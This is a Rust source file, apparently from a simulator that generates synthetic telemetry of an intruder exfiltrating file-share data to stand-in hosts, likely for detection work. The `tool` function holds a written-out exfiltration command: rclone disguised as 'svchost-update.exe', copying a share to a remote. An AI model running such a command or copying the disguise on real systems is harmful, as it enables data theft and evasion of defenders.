//! Data leaves through several clients at once, or through the tunnel.

use super::super::estate::{FS1, Host};
use super::super::moment::{HOUR, SECOND};
use super::super::shapes::{Flow, Started, Tunnel};
use super::{Intruder, Theft, Way};

/// Where it goes.
const DROP: &str = "203.0.113.77";
/// 100 Mbit/s for each client: the way out of an office.
const PACE: u64 = 12_500_000;

// === impl Intruder ===

impl Intruder<'_, '_> {
    /// Sends it all, from `time` on; `cut` ends the tunnel.
    pub fn steal(&mut self, time: i64, clients: &[Host], theft: &Theft, tunnel: &Tunnel, cut: i64) {
        self.act("theft", |it| {
            if theft.way == Way::Tool {
                clients.iter().take(theft.clients).for_each(|client| it.tool(time, client));
            }
            if theft.way == Way::Tunnel {
                it.through_tunnel(time, theft, tunnel);
            } else {
                it.files(time, clients, theft);
            }
        });
        if theft.way != Way::Tunnel {
            // What the intruder's own desktop sessions took.
            self.act("entry", |it| it.scene.tunnel_down(cut, tunnel, 700_000_000, 90_000_000));
        }
    }

    fn files(&mut self, time: i64, clients: &[Host], theft: &Theft) {
        let files = theft.bytes / theft.file;
        let pause = theft.lasts / files.max(1).cast_signed();
        for number in 0..files {
            let client = &clients[number as usize % theft.clients];
            let start = time + pause * number.cast_signed() + self.chance.within(0, pause);
            let out = theft.file * self.chance.between(80, 120) / 100;
            let lasts = (out / PACE + 1).cast_signed() * SECOND;
            let (port, name) = match theft.way {
                Way::Sftp => (22, None),
                Way::Tool => (443, Some("s3.storage-eu.example.net")),
                Way::Https | Way::Tunnel => (443, Some("cdn-upload.example.net")),
            };
            let flow =
                Flow { start, lasts, from: &client.address, to: DROP, port, out, back: out / 200, name, sensed: true };
            self.scene.flow(&flow);
            self.scene.stolen(start, start + lasts, out);
        }
    }

    /// Through the tunnel: the intruder's machine reads the shares itself.
    fn through_tunnel(&mut self, time: i64, theft: &Theft, tunnel: &Tunnel) {
        let reports = 30;
        let step = theft.lasts / reports;
        let server = self.estate.server(FS1);
        for report in 1..=reports {
            let (from, until) = (time + step * (report - 1), time + step * report);
            let sent = theft.bytes / reports.unsigned_abs();
            let total = sent * report.unsigned_abs();
            let flow = Flow {
                start: from,
                lasts: step.min(HOUR),
                from: &self.seat.address,
                to: &server.address,
                port: 445,
                out: sent / 40,
                back: sent,
                name: None,
                sensed: false,
            };
            self.scene.flow(&flow);
            self.scene.stolen(from, until, sent);
            if report == reports {
                self.scene.tunnel_down(until, tunnel, total, total / 40);
            } else {
                self.scene.tunnel_statistics(until, tunnel, total, total / 40);
            }
        }
    }

    /// rclone under another name.
    fn tool(&mut self, time: i64, client: &Host) {
        let image = "C:\\ProgramData\\svchost-update.exe";
        let command = "svchost-update.exe copy \\\\fs1\\share remote:a --transfers 4 --max-age 3y --ignore-existing --no-check-certificate";
        let started = Started { image, original: "rclone.exe", command, parent: "C:\\Windows\\System32\\cmd.exe" };
        let who = self.power.clone();
        self.scene.process(time - 30 * SECOND, client, Some(&who), &started);
    }
}
